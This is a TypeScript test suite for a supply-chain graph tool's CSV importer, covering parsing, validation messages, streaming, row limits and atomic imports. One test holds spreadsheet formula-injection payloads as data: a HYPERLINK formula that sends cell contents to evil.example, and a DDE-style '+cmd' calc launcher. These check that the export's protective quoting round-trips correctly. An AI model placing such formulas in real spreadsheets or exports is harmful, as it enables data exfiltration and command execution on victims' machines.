import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UnprocessableError, ValidationError, type DomainError } from '../../../server/errors.js';
import { locateInCsv, readGraphCsv, type CsvInput } from '../../../server/importers/graph-csv.js';
import { EmbeddedGraphStore } from '../../../server/stores/embedded-store.js';
import { fixtureNodes, fixtureRelationships } from '../stores/graph-store-contract.js';

const csv = (...lines: string[]) => `${lines.join('\n')}\n`;

async function problems(files: Partial<Record<'nodes' | 'relationships', CsvInput>>, maxRows?: number) {
  const err = await readGraphCsv(files, maxRows !== undefined ? { maxRows } : {}).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err, 'expected the CSV to be refused').toBeInstanceOf(ValidationError);
  return (err as ValidationError).fields;
}

describe('reading nodes.csv and relationships.csv', () => {
  it('reads any subset of the columns in any order; empty cells are absent properties', async () => {
    const read = await readGraphCsv({
      nodes: csv(
        'id,label,name,country,saqScore,tags,metal,aliases,recycledOrScrap,cahra,lists',
        'acme,Company,Acme,JP,81.5,focal|key account,,,,,',
        'S1,Smelter,"Tin, Inc.",PE,,,tin,"Tin \\| Co|ATS",TRUE,,',
        'CD,Country,Congo,,,,,,,true,EU-CAHRA|DFA-1502',
        'JP,Country,Japan,,,,,,,False,',
      ),
      relationships: csv('from,to,type,metal,share', 'S1,acme,SUPPLIES,tin,0.25', 'acme,JP,LOCATED_IN,,'),
    });
    expect(read.document).toEqual({
      nodes: [
        { label: 'Company', id: 'acme', name: 'Acme', country: 'JP', saqScore: 81.5, tags: ['focal', 'key account'] },
        { label: 'Smelter', id: 'S1', name: 'Tin, Inc.', country: 'PE', metal: 'tin', aliases: ['Tin | Co', 'ATS'], recycledOrScrap: true },
        { label: 'Country', id: 'CD', name: 'Congo', cahra: true, lists: ['EU-CAHRA', 'DFA-1502'] },
        { label: 'Country', id: 'JP', name: 'Japan', cahra: false },
      ],
      relationships: [
        { type: 'SUPPLIES', from: 'S1', to: 'acme', metal: 'tin', share: 0.25 },
        { type: 'LOCATED_IN', from: 'acme', to: 'JP' },
      ],
    });
    expect(read.rows).toEqual({ nodes: [2, 3, 4, 5], relationships: [2, 3] });
  });

  it('takes CRLF, a UTF-8 byte order mark, trimmed cells, blank rows, quoted line breaks, and streams', async () => {
    const text = '\uFEFFlabel,id,name,country\r\nCompany, acme ,"Acme\r\nWatches",JP\r\n\r\n,,,\r\nCompany,b,B,DE\r\n';
    const expected = [
      { label: 'Company', id: 'acme', name: 'Acme\r\nWatches', country: 'JP' },
      { label: 'Company', id: 'b', name: 'B', country: 'DE' },
    ];
    const fromText = await readGraphCsv({ nodes: text });
    expect(fromText.document.nodes).toEqual(expected);
    // Rows count as a spreadsheet shows them: the blank ones too.
    expect(fromText.rows.nodes).toEqual([2, 5]);
    const bytes = Buffer.from(text, 'utf8');
    // A stream cut mid-character and mid-row reads the same.
    const pieces = [bytes.subarray(0, 7), bytes.subarray(7, 41), bytes.subarray(41)];
    expect((await readGraphCsv({ nodes: Readable.from(pieces) })).document.nodes).toEqual(expected);
  });

  it("undoes the export's quote before a formula character in text and list cells, and only there", async () => {
    const read = await readGraphCsv({
      nodes: csv(
        'label,id,name,country,tags,saqScore',
        `Company,'@evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",JP,'+cmd\\|' /C calc'!A0|=2+3,`,
        "Company,quoted,''-x,JP,'t Hooft|'-y,",
        "Company,plain,'t Hooft Metaal,JP,,",
      ),
      relationships: csv('type,from,to,metal,source', "SUPPLIES,quoted,'@evil,tin,'+cmrt.xlsx"),
    });
    expect(read.document).toEqual({
      nodes: [
        {
          label: 'Company',
          id: '@evil',
          name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
          country: 'JP',
          tags: ["+cmd|' /C calc'!A0", '=2+3'],
        },
        // One quote comes off; a quote that is not before a formula character is the text's own.
        { label: 'Company', id: 'quoted', name: "'-x", country: 'JP', tags: ["'t Hooft", "'-y"] },
        { label: 'Company', id: 'plain', name: "'t Hooft Metaal", country: 'JP' },
      ],
      relationships: [{ type: 'SUPPLIES', from: 'quoted', to: '@evil', metal: 'tin', source: '+cmrt.xlsx' }],
    });
    // A number column is not text: a quote there is not undone, the cell is not a number.
    expect(await problems({ nodes: csv('label,id,name,country,saqScore', "Company,a,A,JP,'-5") })).toEqual([
      { path: 'nodes[0].saqScore', message: 'nodes.csv row 2 column saqScore: "\'-5" is not a number (write e.g. 0.25, with a point)' },
    ]);
  });

  it('an absent file is no rows; a file with only a header is no rows', async () => {
    expect((await readGraphCsv({ relationships: 'type,from,to\n' })).document).toEqual({ nodes: [], relationships: [] });
  });
});

describe('bad CSV names the file, the row and the column', () => {
  it('unknown, repeated, unnamed and missing columns', async () => {
    expect(await problems({ nodes: csv('label,id,nmae,Country,label,', 'Company,a,A,JP,Company,') })).toEqual([
      {
        path: 'nodes',
        message: expect.stringMatching(/^nodes\.csv row 1 column nmae: unknown column; the columns are label, id, name, country, metal, /),
      },
      {
        path: 'nodes',
        message: expect.stringMatching(/^nodes\.csv row 1 column Country: unknown column \(did you mean country\?\); the columns are /),
      },
      { path: 'nodes', message: 'nodes.csv row 1 column label: the column appears twice' },
      { path: 'nodes', message: 'nodes.csv row 1: column 6 has no name' },
    ]);
    expect(await problems({ relationships: csv('type,to,metal', 'SUPPLIES,a,tin') })).toEqual([
      { path: 'relationships', message: 'relationships.csv row 1: the column from is missing' },
    ]);
    expect(await problems({ nodes: '' })).toEqual([{ path: 'nodes', message: 'nodes.csv is empty: the first row must name the columns' }]);
  });

  it('bad share, bad number, bad boolean, bad list', async () => {
    const fields = await problems({
      nodes: csv('label,id,name,country,saqScore,cahra,tags', 'Company,a,A,JP,high,,', 'Country,CD,Congo,,,yes,', 'Company,b,B,JP,,,x||y'),
      relationships: csv(
        'type,from,to,metal,share',
        'SUPPLIES,a,b,tin,0.5',
        'SUPPLIES,a,b,gold,1.5',
        'SUPPLIES,a,b,cobalt,0',
        'SUPPLIES,a,b,mica,"0,3"',
      ),
    });
    expect(fields).toEqual([
      { path: 'nodes[0].saqScore', message: 'nodes.csv row 2 column saqScore: "high" is not a number (write e.g. 0.25, with a point)' },
      { path: 'nodes[1].cahra', message: 'nodes.csv row 3 column cahra: "yes" is not true or false' },
      {
        path: 'nodes[2].tags',
        message:
          'nodes.csv row 4 column tags: has an empty item: "|" separates items, none may be empty (write "\\|" for a "|" inside an item)',
      },
      { path: 'relationships[1].share', message: 'relationships.csv row 3 column share: must be at most 1' },
      { path: 'relationships[2].share', message: 'relationships.csv row 4 column share: must be greater than 0' },
      {
        path: 'relationships[3].share',
        message: 'relationships.csv row 5 column share: "0,3" is not a number (write e.g. 0.25, with a point)',
      },
    ]);
  });

  it('bad label or type, a property the label does not have, missing id', async () => {
    const fields = await problems({
      nodes: csv('label,id,name,country,metal', 'Planet,mars,Mars,,', 'Company,acme,Acme,JP,tin', 'Company,,No Id,JP,', ',x,No label,JP,'),
      relationships: csv('type,from,to,metal,share', 'SUPPLY,a,b,tin,', 'LOCATED_IN,a,JP,,0.5'),
    });
    expect(fields).toEqual([
      { path: 'nodes[0].label', message: 'nodes.csv row 2 column label: "Planet" is not one of Company, Smelter, Country' },
      { path: 'nodes[1].metal', message: 'nodes.csv row 3 column metal: a Company has no metal; leave the cell empty' },
      { path: 'nodes[2].id', message: 'nodes.csv row 4 column id: is required (the cell is empty)' },
      { path: 'nodes[3].label', message: 'nodes.csv row 5 column label: is required (the cell is empty)' },
      { path: 'relationships[0].type', message: 'relationships.csv row 2 column type: "SUPPLY" is not one of SUPPLIES, LOCATED_IN' },
      { path: 'relationships[1].share', message: 'relationships.csv row 3 column share: a LOCATED_IN has no share; leave the cell empty' },
    ]);
  });

  it('model rules: country code, metal, rmapStatus, date', async () => {
    const fields = await problems({
      nodes: csv('label,id,name,country,metal,rmapStatus,lastAudit', 'Smelter,S1,S,pe,iron,conformat,2026-02-30'),
    });
    // In the order the model declares the properties.
    expect(fields.map((f) => f.path)).toEqual(['nodes[0].metal', 'nodes[0].country', 'nodes[0].rmapStatus', 'nodes[0].lastAudit']);
    expect(fields[1]!.message).toBe('nodes.csv row 2 column country: must be an ISO 3166-1 alpha-2 code in upper case, e.g. "CD"');
    expect(fields[3]!.message).toBe('nodes.csv row 2 column lastAudit: must be a date in the form YYYY-MM-DD');
    for (const f of fields) expect(f.message).toMatch(new RegExp(`^nodes\\.csv row 2 column ${f.path.split('.')[1]}: `));
  });

  it('a row with more or fewer cells than the header', async () => {
    expect(await problems({ relationships: csv('type,from,to,metal', 'SUPPLIES,a,b,tin,0.5', 'SUPPLIES,a') })).toEqual([
      { path: 'relationships[0]', message: 'relationships.csv row 2: has 5 cells, the header has 4' },
      { path: 'relationships[1]', message: 'relationships.csv row 3: has 2 cells, the header has 4' },
    ]);
  });

  it('quote errors, with the rows before them still checked', async () => {
    expect(await problems({ nodes: csv('label,id,name,country', 'Company,a,A,XX1', 'Company,b,"B,JP') })).toEqual([
      { path: 'nodes[0].country', message: 'nodes.csv row 2 column country: must be an ISO 3166-1 alpha-2 code in upper case, e.g. "CD"' },
      { path: 'nodes[1].name', message: 'nodes.csv row 3 column name (line 3): a quoted cell is not closed before the end of the file' },
    ]);
    expect(await problems({ nodes: csv('label,id,name,country', 'Company,a,"A"x,JP') })).toEqual([
      {
        path: 'nodes[0].name',
        message:
          'nodes.csv row 2 column name (line 2): a closing quote must be followed by a comma or the end of the row ' +
          '(write "" for a quote inside a quoted cell)',
      },
    ]);
    expect(await problems({ nodes: csv('label,id,name,country', 'Company,a,A "the" B,JP') })).toEqual([
      {
        path: 'nodes[0].name',
        message: 'nodes.csv row 2 column name (line 2): a quote inside an unquoted cell: quote the whole cell and double the quote ("")',
      },
    ]);
  });

  it('too many rows', async () => {
    const rows = Array.from({ length: 4 }, (_, i) => `Company,c${i},C,JP`);
    expect(await problems({ nodes: csv('label,id,name,country', ...rows) }, 3)).toEqual([
      { path: 'nodes', message: 'nodes.csv has more than 3 rows: split it into several imports' },
    ]);
    expect((await readGraphCsv({ nodes: csv('label,id,name,country', ...rows.slice(0, 3)) }, { maxRows: 3 })).document.nodes).toHaveLength(
      3,
    );
  });

  it('lists at most 50 problems', async () => {
    const rows = Array.from({ length: 80 }, (_, i) => `Company,c${i},C,jp`);
    expect(await problems({ nodes: csv('label,id,name,country', ...rows) })).toHaveLength(50);
  });

  it('uses the file names it is given', async () => {
    expect((await readGraphCsv({ nodes: csv('label,id') }, { fileNames: { nodes: 'suppliers/2026-nodes.csv' } })).document.nodes).toEqual(
      [],
    );
    const fields = await readGraphCsv(
      { nodes: csv('label,id,name,country', 'Company,a,A,jp') },
      { fileNames: { nodes: 'suppliers/2026-nodes.csv' } },
    ).catch((e: ValidationError) => e.fields);
    expect(fields).toEqual([
      {
        path: 'nodes[0].country',
        message: 'suppliers/2026-nodes.csv row 2 column country: must be an ISO 3166-1 alpha-2 code in upper case, e.g. "CD"',
      },
    ]);
  });
});

describe('importing into a store: all or nothing', () => {
  let dir: string;
  let store: EmbeddedGraphStore;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'oretrace-csv-'));
    store = new EmbeddedGraphStore({ dataDir: dir });
    await store.init();
    await store.importGraph({ nodes: fixtureNodes, relationships: fixtureRelationships });
  });
  afterEach(async () => {
    await store.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('writes nothing when one row is bad: the reader refuses before the store is touched', async () => {
    const version = await store.version();
    const counts = await store.counts();
    await problems({
      nodes: csv('label,id,name,country', 'Company,new-1,New One,JP', 'Company,new-2,New Two,Japan'),
      relationships: csv('type,from,to,metal', 'SUPPLIES,new-1,acme,tin'),
    });
    expect(await store.version()).toBe(version);
    expect(await store.counts()).toEqual(counts);
  });

  it("points the store's 422 at the CSV row and writes nothing", async () => {
    const before = await store.scan();
    const read = await readGraphCsv({
      nodes: csv('label,id,name,country', 'Company,new-1,New One,JP'),
      relationships: csv('type,from,to,metal', 'SUPPLIES,new-1,acme,tin', '', 'SUPPLIES,ghost,acme,tin', 'SUPPLIES,S-TIN-1,CD,tin'),
    });
    const err = await store.importGraph(read.document).then(
      () => undefined,
      (e: DomainError) => locateInCsv(e, read),
    );
    expect(err).toBeInstanceOf(UnprocessableError);
    expect(err!.fields).toEqual([
      { path: 'relationships[1].from', message: 'relationships.csv row 4 column from: no node has id "ghost"' },
      { path: 'relationships[2]', message: 'relationships.csv row 5: SUPPLIES cannot go from a Smelter to a Country' },
    ]);
    expect(err!.message).toBe('relationships.csv row 4 column from: no node has id "ghost"');
    expect(await store.scan()).toEqual(before);
  });

  it('merges: an empty cell keeps the stored value', async () => {
    const read = await readGraphCsv({
      nodes: csv('label,id,name,country,metal,rmapStatus,aliases', 'Smelter,S-TIN-1,Andes Tin S.A.,PE,tin,,'),
    });
    await store.importGraph(read.document);
    expect(await store.getNode('Smelter', 'S-TIN-1')).toEqual({
      label: 'Smelter',
      id: 'S-TIN-1',
      name: 'Andes Tin S.A.',
      aliases: ['ATS Fundición'],
      metal: 'tin',
      country: 'PE',
      rmapStatus: 'conformant',
    });
  });
});

describe('a broken file that never ends its row', () => {
  it('stops at 1 MiB per row instead of buffering the rest of the file', async () => {
    const fields = await problems({ nodes: `label,id,name,country\nCompany,a,"${'x'.repeat(1.5 * 1024 * 1024)},JP\n` });
    expect(fields).toEqual([
      { path: 'nodes[0].name', message: 'nodes.csv row 2 column name (line 2): a row is longer than 1048576 bytes (an unclosed quote?)' },
    ]);
  });
});
